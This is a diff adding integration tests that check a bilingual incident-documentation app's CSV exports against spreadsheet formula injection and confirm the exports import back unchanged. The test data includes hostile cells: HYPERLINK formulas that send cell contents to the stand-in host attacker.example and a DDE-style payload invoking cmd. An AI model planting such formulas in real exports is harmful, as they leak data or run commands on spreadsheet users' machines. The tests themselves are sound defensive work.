@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openCases, type Cases } from '../../src/cases/open-cases.js';
 import { openDatabase, type OpenDatabase } from '../../src/db/database.js';
@@ -76,6 +77,45 @@ for (const kind of DATABASE_KINDS) {
       expect(exported).toContain('Pyotr Vymyshlenny|transliteration');
       const unknown = (await client.request('POST', '/api/import/people', 'kinds,names,rank\nvictim,X,guard\n', CSV)).json();
       expect(unknown.errors[0]).toMatchObject({ line: 1, field: 'rank' });
+    });
+
+    it('exports no cell a spreadsheet would run as a formula, and imports the export back to the same text', async () => {
+      const hostile = [
+        '=HYPERLINK("http://attacker.example/?d="&C3,"open")',
+        '-20°C in the punishment cell',
+        '+7 detainees moved at night',
+        '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        "'=already quoted by someone",
+      ];
+      for (const [i, title] of hostile.entries()) {
+        const created = await client.request('POST', '/api/incidents', { titleRu: `Заголовок ${i}`, titleEn: title, descriptionRu: i === 0 ? '=1+2' : undefined, datePrecision: 'year', dateStart: '2024', documentationStatus: 'reported' });
+        expect(created.statusCode).toBe(201);
+      }
+
+      const exported = (await client.request('GET', '/api/export/incidents.csv')).body;
+      const cells = (parse(exported.replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>).flatMap((row) => Object.values(row));
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      expect(cells).toContain(`'${hostile[0]}`);
+      expect(cells).toContain(`'${hostile[1]}`);
+      expect(cells).toContain(`''=already quoted by someone`);
+
+      const before = (await client.request('GET', '/api/incidents?limit=100')).json().total as number;
+      expect((await client.request('POST', '/api/import/incidents', exported, CSV)).json().errors).toEqual([]);
+      const titles = ((await client.request('GET', '/api/incidents?limit=100')).json().hits as Array<{ titleEn: string }>).map((i) => i.titleEn);
+      expect((await client.request('GET', '/api/incidents?limit=100')).json().total).toBe(before * 2);
+      for (const title of hostile) expect(titles.filter((t) => t === title)).toHaveLength(2);
+    });
+
+    it('neutralises formulas in the people export too, and imports them back unchanged', async () => {
+      const people = 'kinds,names,notes_en\nwitness,"=HYPERLINK(""http://attacker.example"",""x"")|official","-5 kg in two weeks"\n';
+      expect((await client.request('POST', '/api/import/people', people, CSV)).json()).toEqual({ imported: 1, errors: [] });
+      const exported = (await client.request('GET', '/api/export/people.csv')).body;
+      const row = (parse(exported.replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>).find((r) => r.names!.includes('HYPERLINK'))!;
+      expect(row.names).toBe(`'=HYPERLINK("http://attacker.example","x")|official`);
+      expect(row.notes_en).toBe("'-5 kg in two weeks");
+      expect((await client.request('POST', '/api/import/people', exported, CSV)).json().errors).toEqual([]);
+      const found = (await client.request('GET', '/api/people?q=HYPERLINK')).json();
+      expect(found.total).toBe(2);
     });
   });
 }
